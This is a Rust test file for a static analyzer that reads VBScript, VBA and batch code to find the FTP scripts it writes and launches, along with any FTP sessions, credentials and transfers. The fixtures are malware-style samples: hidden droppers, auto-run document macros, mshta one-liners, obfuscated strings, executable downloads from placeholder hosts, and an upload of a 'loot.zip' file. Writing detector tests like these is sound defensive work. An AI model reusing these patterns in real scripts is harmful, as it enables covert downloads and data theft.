//! What programs in BASIC write and start: cases that read like a specification.

use crate::base::limits::Limits;
use crate::base::text::Text;
use crate::script::launch::Client;
use crate::script::read;
use crate::script::reading::{Feed, Form, TextReading};
use crate::script::transfer::{Direction, Mode};
use crate::script::writer::emulation::Alone;
use crate::script::writer::outcome::Origin;

fn read_named(name: &str, text: &str) -> Option<TextReading> {
    let origin = Origin { directory: Some("C:\\w"), name };
    read::read(&Text::from_content(text), origin, &Alone, &Limits::default())
}

fn read_text(text: &str) -> TextReading {
    read_named("a.vbs", text).unwrap_or_else(|| panic!("says nothing: {text}"))
}

/// The scripts that come out, with their paths, and the command lines of the clients with what they are fed.
fn told(text: &str) -> (Vec<(String, String)>, Vec<(String, Feed)>) {
    let Some(reading) = read_named("a.vbs", text) else { return (Vec::new(), Vec::new()) };
    let written = reading
        .written
        .iter()
        .map(|written| (written.path.clone().unwrap_or_default(), written.text.content.replace("\r\n", "|")));
    let launches = reading.launches.iter().map(|(launch, feed)| (launch.command_line.clone(), *feed));
    (written.collect(), launches.collect())
}

/// One file that is fed to one client.
fn one(text: &str) -> (String, String, String) {
    let (written, launches) = told(text);
    let (path, content) = written.first().cloned().unwrap_or_else(|| panic!("writes nothing: {text}"));
    let launch = launches.first().cloned().unwrap_or_else(|| panic!("starts nothing: {text}"));
    assert_eq!(launch.1, Feed::Written(0), "{text}");
    (path, content, launch.0)
}

#[test]
fn scripts_are_written_and_fed() {
    let file_system = "Set fso = CreateObject(\"Scripting.FileSystemObject\")\n";
    let cases: [(&str, &str, &str, &str); 31] = [
        (
            "For i = 1 To 2\nr = r & \"open h.x\" & vbCrLf\nNext\nSet t = fso.CreateTextFile(\"c\")\nt.Write r\nt.Close\nCreateObject(\"WScript.Shell\").Run \"ftp -n -s:c\"",
            "c",
            "open h.x|open h.x|",
            "ftp -n -s:c",
        ),
        (
            "Set t=CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"u.ftp\",True)\nt.WriteLine \"open 192.0.2.143\"\nt.WriteLine \"get \" & Chr(34) & \"an other.exe\" & Chr(34)\nt.Close\nCreateObject(\"WScript.Shell\").Run \"ftp -s:u.ftp\",0,True",
            "u.ftp",
            "open 192.0.2.143|get \"an other.exe\"|",
            "ftp -s:u.ftp",
        ),
        (
            "Open \"C:\\k.ftp\" For Output As #1\nPrint #1, \"open 192.0.2.144\"\nPrint #1, \"user eve pw2\"\nClose #1\nShell \"ftp.exe -n -i -s:C:\\k.ftp\", vbHide",
            "C:\\k.ftp",
            "open 192.0.2.144|user eve pw2|",
            "ftp.exe -n -i -s:C:\\k.ftp",
        ),
        (
            "Dim f, sh ' the file: the shell\nSet f = fso.OpenTextFile(\"a\", 2, True) : f.Write \"open h.x\" & vbCrLf & \"bob\" & vbNewLine & _\n  \"pw\" & vbCrLf\nf.WriteBlankLines 1\nf.Close\nSet sh = WScript.CreateObject(\"WScript.Shell\")\nsh.Run(\"cmd /c ftp -s:a\")",
            "a",
            "open h.x|bob|pw||",
            "ftp -s:a",
        ),
        (
            "f = FreeFile\nOpen Environ(\"TEMP\") & \"\\a.txt\" For Append As f\nPrint #f, \"user \"; \"bob\"; \" pw\"\nPrint #f, \"by\";\nPrint #f, \"e\"\nClose\nCall Shell(\"ftp -s:\" & Environ(\"TEMP\") & \"\\a.txt\", 0)",
            "%TEMP%\\a.txt",
            "user bob pw|bye|",
            "ftp -s:%TEMP%\\a.txt",
        ),
        (
            "With fso.CreateTextFile(\"w\")\n.WriteLine(\"open h.x\")\n.WriteLine (\"user \" & LCase(\"BOB\")) & \" pw\"\n.Close\nEnd With\nCreateObject(\"WScript.Shell\").Run \"ftp -n -s:w\"",
            "w",
            "open h.x|user bob pw|",
            "ftp -n -s:w",
        ),
        (
            "const HOST = \"h.x\", USER = \"bob\"\nSet t = fso.CreateTextFile(\"c\")\nFor Each l In Array(\"open \" & HOST, USER, \"pw\")\nt.WriteLine l\nNext\nt.Close\nCreateObject(\"WScript.Shell\").Exec \"ftp -s:c\"",
            "c",
            "open h.x|bob|pw|",
            "ftp -s:c",
        ),
        (
            "p = fso.BuildPath(fso.GetSpecialFolder(2), \"x.dat\")\nSet t = fso.CreateTextFile(p)\nt.Write Replace(\"open h.x;bye;\", \";\", vbCrLf)\nt.Close\nShell \"ftp -A -s:\" & p",
            "%TEMP%\\x.dat",
            "open h.x|bye|",
            "ftp -A -s:%TEMP%\\x.dat",
        ),
        (
            "Set s = CreateObject(\"ADODB.Stream\")\ns.Type = 2: s.Charset = \"us-ascii\": s.Open\ns.WriteText \"open h.x\", 1\ns.WriteText \"bye\"\ns.SaveToFile \"ad\", 2\nCreateObject(\"Shell.Application\").ShellExecute \"ftp.exe\", \"-s:ad\", \"\", \"open\", 0",
            "ad",
            "open h.x|bye",
            "ftp.exe -s:ad",
        ),
        (
            "Function D(s)\nDim i\nFor i = 1 To Len(s) Step 2\nD = D & Chr(CLng(\"&H\" & \"0\") + Asc(Mid(s, i, 1)))\nNext\nEnd Function\nSet t = fso.CreateTextFile(D(\"fxqx\"))\nt.WriteLine D(\"bxyxex\")\nt.Close\nShell D(\"fxtxpx x-xsx:xfxqx\")",
            "fq",
            "bye|",
            "ftp -s:fq",
        ),
        (
            "x = \"xslof\"\nSet t = fso.CreateTextFile(StrReverse(\"tab.s\"))\nt.WriteLine StrReverse(\"x.h nepo\")\nt.WriteLine Join(Split(\"user,bob,pw\", \",\"), \" \")\nt.Close\nShell \"ftp -s:s.bat\"",
            "s.bat",
            "open h.x|user bob pw|",
            "ftp -s:s.bat",
        ),
        (
            "Execute \"Set t = fso.CreateTextFile(\"\"e\"\"): t.WriteLine \"\"bye\"\"\"\nExecuteGlobal \"Shell \"\"ftp -s:e\"\"\"",
            "e",
            "bye|",
            "ftp -s:e",
        ),
        (
            "Sub Line(ByRef t, s): t.WriteLine s: End Sub\nSet t = fso.CreateTextFile(\"p\")\nLine t, \"open h.x\"\nCall Line(t, \"bye\")\nShell \"ftp -s:p\"",
            "p",
            "open h.x|bye|",
            "ftp -s:p",
        ),
        (
            "Set t = fso.CreateTextFile(\"i\")\nIf 1 = 2 Then t.WriteLine \"no\" Else t.WriteLine \"open h.x\"\nIf fso.FileExists(\"q\") Then\nt.WriteLine \"one\"\nElseIf x Then\nt.WriteLine \"two\"\nElse\nt.WriteLine \"three\"\nEnd If\nShell \"ftp -s:i\"",
            "i",
            "open h.x|one|two|three|",
            "ftp -s:i",
        ),
        (
            "Set t = fso.CreateTextFile(\"d\")\nn = 0\nDo While n < 3\nt.WriteLine \"get \" & n\nn = n + 1\nLoop\nDo: t.WriteLine \"x\": n = n - 1: Loop Until n = 1\nWhile n < 3: n = n + 1: Wend\nt.Write n\nShell \"ftp -s:d\"",
            "d",
            "get 0|get 1|get 2|x|x|3",
            "ftp -s:d",
        ),
        (
            "Set t = fso.CreateTextFile(\"s\")\nSelect Case \"b\"\nCase \"a\": t.Write 1\nCase \"c\", \"b\"\nt.Write 2\nCase Else\nt.Write 3\nEnd Select\nSelect Case 7\nCase Is < 5: t.Write 4\nCase 6 To 9: t.Write 5\nEnd Select\nShell \"ftp -s:s\"",
            "s",
            "25",
            "ftp -s:s",
        ),
        (
            "Set t = fso.CreateTextFile(\"u\")\nt.WriteLine \"user \" & InputBox(\"Who?\") & \" \" & strPass\nShell \"ftp -s:u\"",
            "u",
            "user %InputBox% %strPass%|",
            "ftp -s:u",
        ),
        (
            "Set sh = CreateObject(\"WScript.Shell\")\np = sh.ExpandEnvironmentStrings(\"%APPDATA%\") & \"\\z\"\nsh.Environment(\"PROCESS\")(\"Q\") = \"h.x\"\nSet t = fso.CreateTextFile(p)\nt.WriteLine \"open \" & sh.Environment(\"PROCESS\").Item(\"q\")\nsh.Run \"ftp -s:\"\"\" & p & \"\"\"\"",
            "%APPDATA%\\z",
            "open h.x|",
            "ftp -s:\"%APPDATA%\\z\"",
        ),
        (
            "d = Left(WScript.ScriptFullName, InStrRev(WScript.ScriptFullName, \"\\\"))\nSet t = fso.CreateTextFile(d & WScript.ScriptName & \".txt\")\nt.Write \"bye\"\nShell \"ftp -s:\" & d & \"a.vbs.txt\"",
            "C:\\w\\a.vbs.txt",
            "bye",
            "ftp -s:C:\\w\\a.vbs.txt",
        ),
        (
            "Open ThisWorkbook.Path & \"\\m\" For Output Access Write As #2 Len = 1\nPrint #2, Tab(3); \"a\"; Spc(2); \"b\", 5; -1\nWrite #2, \"x\", 7\nClose #2\nShell (\"ftp -s:\" & ThisWorkbook.Path & \"\\m\")",
            "C:\\w\\m",
            "  a  b         5 -1 |\"x\",7|",
            "ftp -s:C:\\w\\m",
        ),
        (
            "Private Declare Function Run Lib \"shell32.dll\" Alias \"ShellExecuteA\" (ByVal h As Long, ByVal o As String) As Long\nSub AutoOpen()\nDim n As Integer: n = FreeFile()\nOpen App.Path & \"\\v\" For Output As #n\nPrint #n, \"bye\"\nClose #n\nShellExecute 0, \"open\", \"ftp\", \"-s:v\", App.Path, 0\nEnd Sub",
            "C:\\w\\v",
            "bye|",
            "ftp -s:v",
        ),
        (
            "On Error Resume Next\nSet t = fso.CreateTextFile(\"r\")\nt.Write Space(2) & String(3, \"x\") & Hex(255) & UCase(\"q\") & Trim(\" y \") & Right(\"abc\", 1) & CStr(4) & vbLf & vbTab\nShell \"ftp -s:r\"",
            "r",
            "  xxxFFQyc4\n\t",
            "ftp -s:r",
        ),
        (
            "Dim a(2)\na(0) = \"open h.x\": a(1) = \"bye\"\nReDim Preserve a(3)\nSet t = fso.CreateTextFile(\"a\")\nFor i = LBound(a) To UBound(a) - 2\nt.WriteLine a(i)\nNext\nShell \"ftp -s:a\"",
            "a",
            "open h.x|bye|",
            "ftp -s:a",
        ),
        (
            "Set t = fso.CreateTextFile(\"o\")\nt.WriteLine \"open h.x\"\nt.Close\nfso.CopyFile \"o\", \"o2\"\nfso.DeleteFile \"o\"\nSet t = fso.GetFile(\"o2\").OpenAsTextStream(8)\nt.WriteLine \"bye\"\nShell \"ftp -s:o2\"",
            "o2",
            "open h.x|bye|",
            "ftp -s:o2",
        ),
        (
            "Set x = fso.CreateTextFile(\"b.bat\")\nx.WriteLine \"echo open h.x>q\"\nx.WriteLine \"ftp -s:q\"\nx.Close\nShell \"b.bat\"",
            "q",
            "open h.x|",
            "ftp -s:q",
        ),
        (
            "CreateObject(\"WScript.Shell\").CurrentDirectory = \"D:\\t\"\nSet t = fso.CreateTextFile(\"rel\")\nt.Write \"bye\"\nShell \"ftp -s:D:\\t\\rel\"",
            "rel",
            "bye",
            "ftp -s:D:\\t\\rel",
        ),
        (
            "Set e = CreateObject(\"WScript.Shell\").Exec(\"ftp -n\")\ne.StdIn.WriteLine \"open h.x\"\ne.StdIn.Write \"bye\" & vbLf\ne.StdIn.Close",
            "",
            "open h.x|bye\n",
            "ftp -n",
        ),
        (
            "Set e = CreateObject(\"WScript.Shell\").Exec(\"cmd /c ftp -n\")\ne.StdIn.WriteLine \"bye\"\nDo While e.Status = 0\nWScript.Sleep 9\nLoop\nWScript.Echo e.StdOut.ReadAll",
            "",
            "bye|",
            "ftp -n",
        ),
        (
            "Do\nSet t = fso.CreateTextFile(\"n\", True)\nt.Write \"bye\"\nt.Close\nShell \"ftp -s:n\"\nWScript.Sleep 60000\nLoop",
            "n",
            "bye",
            "ftp -s:n",
        ),
        (
            "Class Job\nPublic Host\nPublic Sub Go(f)\nSet t = fso.CreateTextFile(f)\nt.WriteLine \"open h.x\"\nShell \"ftp -s:\" & f\nEnd Sub\nEnd Class\nSet j = New Job\nj.Go \"k\"",
            "k",
            "open h.x|",
            "ftp -s:k",
        ),
        (
            "Set t = fso.CreateTextFile(\"y\")\nt.WriteLine \"a\" + \"b\" & 1 + 2 & (3 > 2 And Not False) & 7 \\ 2 & 7 Mod 4 & 2 ^ 3 & IIf(1 < 2, \"t\", \"f\")\nShell \"ftp -s:y\"",
            "y",
            "ab3True338t|",
            "ftp -s:y",
        ),
    ];
    for (text, path, content, launch) in cases {
        let whole = format!("{file_system}{text}");
        assert_eq!(one(&whole), (path.to_owned(), content.to_owned(), launch.to_owned()), "{text}");
    }
}

#[test]
fn unicode_files_are_told() {
    for (text, utf16) in [
        ("fso.CreateTextFile(\"a\", True, True).Write \"bye\"", true),
        ("fso.CreateTextFile(\"a\", True, False).Write \"bye\"", false),
        ("fso.OpenTextFile(\"a\", 2, True, -1).Write \"bye\"", true),
        ("Set s = CreateObject(\"ADODB.Stream\"): s.Open: s.WriteText \"bye\": s.SaveToFile \"a\"", true),
    ] {
        let text = format!("Set fso = CreateObject(\"Scripting.FileSystemObject\")\n{text}\nShell \"ftp -s:a\"");
        let encoding = read_text(&text).written[0].text.encoding;
        assert_eq!(encoding == crate::base::text::Encoding::Utf16Le, utf16, "{text}");
    }
}

#[test]
fn lines_are_named() {
    let reading = read_text(
        "Sub W(t, s)\n t.WriteLine s\nEnd Sub\nSet t = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"a\")\nt.WriteLine \"open h.x\"\nW t, \"bye\"\n\nShell \"ftp -s:a\"",
    );
    let lines: Vec<_> = reading.written[0].provenance.iter().map(|p| (p.line, p.written_by_line)).collect();
    assert_eq!(lines, [(1, 5), (2, 2)]);
    assert_eq!(reading.launches[0].0.found_in.line, Some(8));
    assert_eq!(reading.form, Form::Vbscript);
}

#[test]
fn uncalled_procedures_run_with_what_is_known() {
    let macros = "Attribute VB_Name = \"M\"\nSub Send(host As String, Optional user As String = \"bob\")\nOpen \"c:\\f\" For Output As #1\nPrint #1, \"open \" & host\nPrint #1, \"user \" & user\nClose #1\nShell \"ftp -s:c:\\f\"\nEnd Sub";
    assert_eq!(one(macros).1, "open %host%|user %user%|");
    let called = format!("{macros}\nSub AutoOpen()\n Send \"h.x\"\nEnd Sub");
    let (written, launches) = told(&called);
    assert_eq!((written.len(), launches.len()), (1, 1));
    assert_eq!(written[0].1, "open h.x|user bob|");
}

#[test]
fn branches_in_doubt_take_nothing_away() {
    let text = "h = \"h.x\"\nIf WScript.Arguments.Count > 0 Then h = WScript.Arguments(0)\nIf h = \"\" Then WScript.Quit\nIf Err.Number <> 0 Then WScript.Quit 1\nSet t = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"a\")\nt.WriteLine \"open \" & h\nShell \"ftp -s:a\"\nWScript.Quit\nShell \"ftp -s:never\"";
    let (written, launches) = told(text);
    assert_eq!(written[0].1, "open h.x|");
    assert_eq!(launches.len(), 1);
}

#[test]
fn sessions_of_wininet() {
    let text = "Private Declare Function Conn Lib \"wininet.dll\" Alias \"InternetConnectA\" (ByVal h As Long) As Long\nConst INTERNET_SERVICE_FTP = 1\nSub Up()\nh = InternetOpen(\"x\", 1, vbNullString, vbNullString, 0)\nc = Conn(h, \"h.example\", 2121, \"bob\", \"pw\", INTERNET_SERVICE_FTP, &H8000000, 0)\nFtpSetCurrentDirectory c, \"in\"\nb = FtpPutFile(c, \"C:\\a.xls\", \"b.xls\", 1, 0)\nIf FtpGetFile(c, \"r.exe\", \"C:\\r.exe\", False, 0, 2, 0) Then MsgBox \"ok\"\nFtpDeleteFile c, \"b.xls\"\nEnd Sub";
    let reading = read_named("a.bas", text).expect("says something");
    assert_eq!(reading.client, Client::Wininet);
    let session = &reading.sessions[0];
    assert_eq!((session.host.as_deref(), session.port), (Some("h.example"), Some(2121)));
    assert_eq!(session.credentials[0].username.as_deref(), Some("bob"));
    assert_eq!(session.credentials[0].password.as_ref().map(|secret| secret.reveal()), Some("pw"));
    let moved: Vec<_> = session
        .transfers
        .iter()
        .map(|transfer| {
            (transfer.direction, transfer.remote_path.as_deref(), transfer.local_path.as_deref(), transfer.mode)
        })
        .collect();
    assert_eq!(
        moved,
        [
            (Direction::Upload, Some("b.xls"), Some("C:\\a.xls"), Mode::Ascii),
            (Direction::Download, Some("r.exe"), Some("C:\\r.exe"), Mode::Binary)
        ]
    );
    assert_eq!(session.transfers[0].remote_directory.as_deref(), Some("in"));
    assert_eq!(session.deletes, ["b.xls"]);
}

/// `client scheme user:password@host:port`, each transfer as `<` or `>`, mode, resolved local and remote name, what else is done.
fn engines(text: &str) -> Vec<String> {
    let Some(reading) = read_named("a.vbs", text) else { return Vec::new() };
    let told = reading.sessions.iter().map(|session| {
        let login = session.credentials.first().map_or_else(String::new, |login| {
            let password = login.password.as_ref().map_or("-", |password| password.reveal());
            format!("{}:{password}", login.username.as_deref().unwrap_or("-"))
        });
        let scheme = serde_json::to_value(session.scheme).unwrap();
        let mut told = format!(
            "{} {} {login}@{}:{}",
            reading.client.dialect(),
            scheme.as_str().unwrap(),
            session.host.as_deref().unwrap_or("-"),
            session.port.unwrap_or(0)
        );
        for moved in &session.transfers {
            let sign = if moved.direction == Direction::Upload { '>' } else { '<' };
            let mode = if moved.mode == Mode::Ascii { 'A' } else { 'I' };
            let directory = moved.remote_directory.as_deref();
            let remote = crate::script::local_path::remote_join(directory, moved.remote_path.as_deref().unwrap_or("-"));
            let star = if moved.pattern { "*" } else { "" };
            told += &format!(
                " {sign}{mode}{star} {} {remote}",
                moved.resolved_path.as_deref().or(moved.local_path.as_deref()).unwrap_or("-")
            );
        }
        session.deletes.iter().for_each(|name| told += &format!(" del {name}"));
        session.renames.iter().for_each(|[from, to]| told += &format!(" ren {from} {to}"));
        session.makes_directories.iter().for_each(|name| told += &format!(" mkdir {name}"));
        session.local_writes.iter().for_each(|name| told += &format!(" list {name}"));
        session.raw.iter().for_each(|name| told += &format!(" raw {name}"));
        told
    });
    told.collect()
}

#[test]
fn sessions_of_the_transfer_engine() {
    let new = "Set s = CreateObject(\"CuteFTPPro.TEConnection\")\n";
    let recorded = "Set MySite = CreateObject(\"CuteFTPPro.TEConnection\")\nMySite.Host = \"192.0.2.80\"\nMySite.Protocol = \"FTP\"\nMySite.Port = 2121\nMySite.Retries = 30\nMySite.TransferType = \"AUTO\"\nMySite.DataChannel = \"DEFAULT\"\nMySite.Login = \"bob\"\nMySite.Password = \"pw\"\nMySite.SocksInfo = \"\"\nMySite.Connect\nIf Not CBool(MySite.IsConnected) Then\nMsgBox \"no: \" & MySite.Host\nWScript.Quit 1\nEnd If\nMySite.LocalFolder = \"C:\\out\"\nMySite.RemoteFolder = \"/in\"\nMySite.Upload \"a.zip\"\nMySite.Download \"/pub/b.exe\", \"D:\\b.exe\"\nMySite.RemoteRemove \"/in/c\"\nMySite.RemoteRename \"d\", \"e\"\nMySite.CreateRemoteFolder \"f\"\nMySite.Disconnect\nMySite.Close";
    let cases: [(String, &[&str]); 15] = [
        (
            recorded.to_owned(),
            &[
                "cuteftp ftp bob:pw@192.0.2.80:2121 >I C:\\out\\a.zip /in/a.zip <I D:\\b.exe /pub/b.exe del /in/c ren d e mkdir f",
            ],
        ),
        // What needs the server connects.
        (format!("{new}s.Host = \"h.x\": s.Download \"r.txt\""), &["cuteftp ftp anonymous:-@h.x:21 <I r.txt r.txt"]),
        (
            format!(
                "{new}s.Protocol = \"SFTP\"\ns.Host = \"h.x\"\ns.Login = \"u\"\ns.Password = \"p\"\ns.UploadAsync \"C:\\a\", \"/b/\""
            ),
            &["cuteftp sftp u:p@h.x:22 >I C:\\a /b/a"],
        ),
        (
            format!(
                "{new}s.Protocol = \"FTPS_IMPLICIT\"\ns.Host = \"h.x/UP\"\ns.Login = \"u\"\ns.Connect\ns.Download \"*.txt\", \"C:\\in\\\""
            ),
            &["cuteftp ftps u:-@h.x:990 <I* C:\\in\\*.txt /UP/*.txt"],
        ),
        (
            format!(
                "{new}s.Protocol = \"FTPS_AUTH_TLS\"\ns.Host = \"h.x\"\ns.TransferType = \"ASCII\"\ns.Upload \"C:\\a.txt\""
            ),
            &["cuteftp ftps anonymous:-@h.x:21 >A C:\\a.txt a.txt"],
        ),
        (
            format!(
                "{new}s.Host = \"ftp://u:p@h.x:2100/\"\ns.GetList \"/x\", \"C:\\l.txt\", \"%NAME\"\ns.RemoteCommand \"SITE CHMOD 777 x\""
            ),
            &["cuteftp ftp u:p@h.x:2100 list C:\\l.txt raw SITE CHMOD 777 x"],
        ),
        (
            format!("{new}s.Host = \"h.x\"\ns.Synchronize \"/r\", \"C:\\l\", 0, 1, 0, 1"),
            &["cuteftp ftp anonymous:-@h.x:21 >I* C:\\l /r"],
        ),
        (
            format!("{new}s.Host = \"h.x\"\ns.Synchronize \"/r\", \"C:\\l\", 2"),
            &["cuteftp ftp anonymous:-@h.x:21 >I* C:\\l /r <I* C:\\l /r"],
        ),
        (format!("{new}s.TransferURL \"ftp://u:p@h.x/a\""), &["cuteftp ftp u:p@h.x:21 <I - a"]),
        // Two servers, one object.
        (
            format!(
                "{new}s.Host = \"h.x\"\ns.Upload \"C:\\a\"\ns.Disconnect\ns.Host = \"h.y\"\ns.Connect\ns.Upload \"C:\\b\""
            ),
            &["cuteftp ftp anonymous:-@h.x:21 >I C:\\a a", "cuteftp ftp anonymous:-@h.y:21 >I C:\\b b"],
        ),
        (
            "Dim s As New CuteFTPPro.TEConnection\ns.Host = \"h.x\"\ns.Upload \"C:\\a\"".to_owned(),
            &["cuteftp ftp anonymous:-@h.x:21 >I C:\\a a"],
        ),
        (
            "Dim s As TEConnection\nSet s = New TEConnection\nWith s\n.Host = \"h.x\"\n.Upload \"C:\\a\"\nEnd With"
                .to_owned(),
            &["cuteftp ftp anonymous:-@h.x:21 >I C:\\a a"],
        ),
        // HTTP, no host, a host that somebody else gives.
        (format!("{new}s.Protocol = \"HTTP\"\ns.Host = \"h.x\"\ns.Connect\ns.Download \"a\""), &[]),
        (format!("{new}s.Connect\ns.Download \"a\""), &[]),
        (format!("{new}s.Host = InputBox(\"host\")\ns.Connect\ns.Download \"a\""), &[]),
    ];
    for (text, expected) in cases {
        assert_eq!(engines(&text), expected, "{text}");
    }
    let sftp = read_text(&format!("{new}s.Protocol = \"SFTP\"\ns.Host = \"h.x\"\ns.Upload \"C:\\a\""));
    assert!(sftp.sessions[0].commands.iter().all(|command| command.wire.is_empty()));
}

#[test]
fn sessions_of_objects() {
    let cases: [(&str, &str, Option<&str>, Option<&str>); 5] = [
        (
            "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"ftp://bob:pw@h.x/d/a.exe\", False\nx.Send\nSet s = CreateObject(\"ADODB.Stream\")\ns.Type = 1: s.Open: s.Write x.responseBody\ns.SaveToFile \"C:\\a.exe\", 2",
            "h.x",
            Some("a.exe"),
            Some("C:\\a.exe"),
        ),
        (
            "Inet1.URL = \"ftp://h.x\"\nInet1.UserName = \"bob\"\nInet1.Password = \"pw\"\nInet1.Execute , \"PUT C:\\a.txt up.txt\"",
            "h.x",
            Some("up.txt"),
            Some("C:\\a.txt"),
        ),
        (
            "With Inet1\n.Execute \"ftp://bob:pw@h.x\", \"GET a.txt C:\\l.txt\"\n.Execute , \"CLOSE\"\nEnd With",
            "h.x",
            Some("a.txt"),
            Some("C:\\l.txt"),
        ),
        (
            "CreateObject(\"Shell.Application\").NameSpace(\"ftp://bob:pw@h.x/in\").CopyHere \"C:\\loot.zip\"",
            "h.x",
            Some("loot.zip"),
            Some("C:\\loot.zip"),
        ),
        (
            "URLDownloadToFile 0, \"ftp://bob:pw@h.x/p/q.exe\", \"C:\\q.exe\", 0, 0",
            "h.x",
            Some("q.exe"),
            Some("C:\\q.exe"),
        ),
    ];
    for (text, host, remote, local) in cases {
        let reading = read_text(text);
        assert_eq!(reading.sessions.len(), 1, "{text}");
        let session = &reading.sessions[0];
        assert_eq!(session.host.as_deref(), Some(host), "{text}");
        assert_eq!(session.credentials[0].username.as_deref(), Some("bob"), "{text}");
        assert_eq!(session.transfers[0].remote_path.as_deref(), remote, "{text}");
        assert_eq!(session.transfers[0].local_path.as_deref(), local, "{text}");
    }
}

#[test]
fn code_that_tells_no_host_is_no_session() {
    let wrapper = "Public Function PutFile(ByVal sServer As String, ByVal sLocal As String) As Boolean\nhConn = InternetConnect(hOpen, sServer, 21, sUser, sPassword, INTERNET_SERVICE_FTP, 0, 0)\nPutFile = FtpPutFile(hConn, sLocal, sRemote, 2, 0)\nEnd Function";
    assert_eq!(read_named("cFtp.cls", wrapper), None);
    for text in
        ["Imports System.Net\nDim w As New WebClient()\nConsole.WriteLine(\"ftp\")", "MsgBox \"use ftp\"\nDim x"]
    {
        assert_eq!(read_named("a.txt", text), None, "{text}");
    }
}

#[test]
fn dumps_of_macros_are_told_by_their_lines() {
    let dump = "olevba 0.60\nFILE: x.doc\nVBA MACRO ThisDocument.cls \nin file: x.doc - OLE stream: 'Macros/VBA/ThisDocument'\n- - - - - - - -\nPrivate Sub Document_Open()\n  Open \"C:\\q\" For Output As #1\n  Print #1, \"open h.x\"\n  Close #1\n  Shell \"ftp -s:C:\\q\", 0\nEnd Sub\n+----+----+\n|Type|Key |\n";
    let reading = read_named("dump.txt", dump).expect("says something");
    assert_eq!(reading.form, Form::Vbscript);
    assert_eq!(reading.launches[0].1, Feed::Written(0));
}

#[test]
fn command_lines_may_hold_the_script() {
    let run = |text: &str| {
        let reading = read_named("a.bat", text).unwrap_or_else(|| panic!("says nothing: {text}"));
        (reading.written.first().map(|written| written.text.content.clone()), reading.launches.len())
    };
    let open = "@echo off\n";
    for text in [
        "mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"cmd /c echo bye>a&ftp -s:a\",0,true)(window.close)",
        "mshta \"vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"cmd /c echo bye^>a\"\":CreateObject(\"\"WScript.Shell\"\").Run \"\"ftp -s:a\"\"\")(window.close)\"",
        "mshta \"javascript:new ActiveXObject('WScript.Shell').Run('cmd /c echo bye>a');new ActiveXObject('WScript.Shell').Run('ftp -s:a');close()\"",
        "echo Set t = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"a\")>x.vbs\necho t.WriteLine \"bye\">>x.vbs\necho CreateObject(\"WScript.Shell\").Run \"ftp -s:a\">>x.vbs\ncscript //nologo x.vbs",
    ] {
        let (content, launches) = run(&format!("{open}{text}"));
        assert_eq!((content.as_deref(), launches), (Some("bye\r\n"), 1), "{text}");
    }
}

#[test]
fn utf_8_of_a_stream_has_its_mark() {
    let script = "s.Open: s.WriteText \"open h.x\": s.SaveToFile \"a\": Shell \"ftp -s:a\"";
    for (charset, mark) in [("utf-8", true), ("us-ascii", false), ("windows-1252", false)] {
        let text = format!("Set s = CreateObject(\"ADODB.Stream\"): s.Charset = \"{charset}\"\n{script}");
        assert_eq!(read_text(&text).written[0].text.byte_order_mark, mark, "{charset}");
    }
}

#[test]
fn scripts_that_start_each_other_end() {
    let deep = format!("{}x = {}Shell(\"wscript x.vbs\"){}", "If 1 Then\n".repeat(28), "(".repeat(28), ")".repeat(28));
    let lines: String = deep.lines().map(|line| format!("t.WriteLine \"{}\"\n", line.replace('"', "\"\""))).collect();
    let text = format!(
        "Set t = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"x.vbs\")\n{lines}t.Close\nShell \"wscript x.vbs\"\nShell \"ftp -s:x.vbs\""
    );
    assert!(!read_text(&text).written.is_empty());
}

#[test]
fn nothing_makes_it_fail() {
    let deep = format!("x = {}1{}", "(".repeat(5000), ")".repeat(5000));
    let blocks = "If a Then\n".repeat(5000);
    let calls = "Sub F(x): F x & x: End Sub\nF \"ab\"";
    let growth = "s = \"x\"\nDo\ns = s & s\nLoop";
    let chain = format!("x = \"a\"{}", " & \"b\"".repeat(50_000));
    for text in [
        deep.as_str(),
        &blocks,
        calls,
        growth,
        &chain,
        "x = ",
        "Set = (",
        "If",
        "For\nNext",
        "Select Case\nCase\nEnd Select",
        "Open",
        "Print #",
        "_",
        "With\n.x.y(",
        "a(1)(2)(3) = 4",
        "Mid(s, -1, -5)",
        "ReDim a(999999999)",
        "Execute \"Execute s\"",
        "s = \"Execute s\": Execute s",
        "x = &HFFFFFFFFFF & &H",
        "#1/2",
    ] {
        let _ = read_named("a.vbs", text);
    }
}
